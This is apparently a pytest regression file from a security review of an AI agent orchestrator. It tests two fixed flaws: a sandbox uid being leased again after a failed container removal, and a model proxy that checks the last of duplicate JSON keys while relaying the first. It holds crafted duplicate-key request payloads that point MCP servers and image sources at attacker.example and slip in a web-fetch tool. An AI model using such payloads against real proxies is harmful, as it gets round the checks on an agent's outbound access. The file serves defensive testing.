"""Twelfth review, attacks that need no engine (both fixed after the review: the lease kept while its container
may run, ``hostuids.keep_lease``; a request repeating a key refused, ``proxy._without_duplicates``): the uid lease of a Docker sandbox (``sandbox.hostuids``) as
``DockerSandbox.remove`` gives it back (finding 6), and the model proxy's reading of duplicate keys (finding 9).

The lease is released in ``remove``'s ``finally``, whatever the engine said about the container: when the engine
fails to remove it (a timeout, a daemon too busy to answer), the container may still run as that uid, and the next
sandbox made on the host is given the same uid (the lowest free one). The engine test of the same attack is
``tests/docker/test_threats_review12.py::test_a_sandbox_whose_removal_failed_keeps_its_uid``.
"""

from __future__ import annotations

from unittest import mock

import docker.errors
import pytest

from orchestrator.errors import SandboxError
from orchestrator.sandbox import hostuids
from orchestrator.sandbox.base import SandboxSpec
from orchestrator.sandbox.docker import DockerSandbox


def test_unit_a_uid_is_not_given_back_while_the_engine_has_not_removed_its_container(tmp_path, monkeypatch):
    monkeypatch.setattr(hostuids, "LEASES_DIR", tmp_path)  # never the host's leases
    monkeypatch.setenv("TRIALBOX_SANDBOX_UIDS", "1900100-1900131")
    client = mock.MagicMock()
    client.api.api_version = "1.41"
    sandbox = DockerSandbox(SandboxSpec(image_id="sha256:" + "0" * 64, name="tb-review12"), client)
    uid = sandbox.uid_lease.uid
    sandbox.container = mock.MagicMock()
    sandbox.container.remove.side_effect = docker.errors.APIError("engine timed out (injected)")
    with pytest.raises(SandboxError):
        sandbox.remove()  # the container is still there as far as anyone knows
    other = hostuids.lease_uid()
    try:
        print(f"the sandbox whose removal failed had uid {uid}; the next lease is {other.uid}")
        assert other.uid != uid, "the uid of a container the engine did not remove was leased again"
    finally:
        other.release()
        if sandbox.uid_lease is not None:
            sandbox.uid_lease.release()


# ---------------------------------------------------------------------------------------------------------------
# The model proxy judges one reading of a request and relays another: ``_handle`` checks ``json.loads(body)``
# (Python keeps the *last* of duplicate keys) for server-side tools, MCP servers, URL sources and the pinned model,
# then relays the original bytes unchanged. A request whose *first* occurrence of a key asks the provider to reach out
# (``mcp_servers``, a web-fetch tool, an image with a URL source) and whose last is harmless is relayed. Whether the
# provider then reaches out depends on its JSON parser (first-wins parsers exist, e.g. simdjson's on-demand field
# lookup; an error on duplicates would make it harmless): not tried here (no provider is reachable). What the proxy
# relays should be what it checked (re-serialised), or duplicates refused.
# ---------------------------------------------------------------------------------------------------------------

from tests.unit.test_proxy import MODEL, Upstream, proxied, upstream  # noqa: E402,F401 - fixtures


DUPLICATED = {
    "mcp_servers": ('{"model": "%s", "max_tokens": 10, "mcp_servers": [{"type": "url", "url": '
                    '"https://attacker.example/mcp", "name": "x"}], "messages": [{"role": "user", "content": "hi"}], '
                    '"mcp_servers": []}' % MODEL),
    "web_fetch_tool": ('{"model": "%s", "max_tokens": 10, "tools": [{"type": "web_fetch_20250910", "name": '
                       '"web_fetch"}], "messages": [{"role": "user", "content": "hi"}], "tools": []}' % MODEL),
    "url_source": ('{"model": "%s", "max_tokens": 10, "messages": [{"role": "user", "content": [{"type": "image", '
                   '"source": {"type": "url", "url": "https://attacker.example/p.png"}, "source": {"type": "base64", '
                   '"media_type": "image/png", "data": "iVBORw=="}}]}]}' % MODEL),
}


@pytest.mark.parametrize("attack", sorted(DUPLICATED))
def test_unit_a_request_with_a_duplicate_key_is_not_relayed_unchecked(proxied, attack):
    from orchestrator.agents import Budget, BudgetLimits

    proxy, client, events, path = proxied
    proxy.attach(events, Budget(BudgetLimits()))
    raw = DUPLICATED[attack]
    r = client.post("/v1/messages", content=raw, headers={"content-type": "application/json"})
    proxy.wait_idle()
    print(f"{attack}: the proxy answered {r.status_code}; the upstream was sent {len(Upstream.seen)} request(s)")
    assert r.status_code in (400, 403) and Upstream.seen == [], \
        "a request holding a server-side reach in its first duplicate key was relayed as sent"
    # fixed after the review: a key named twice in one object is refused by name (proxy._without_duplicates)
    assert r.status_code == 400 and "repeats the key" in r.text
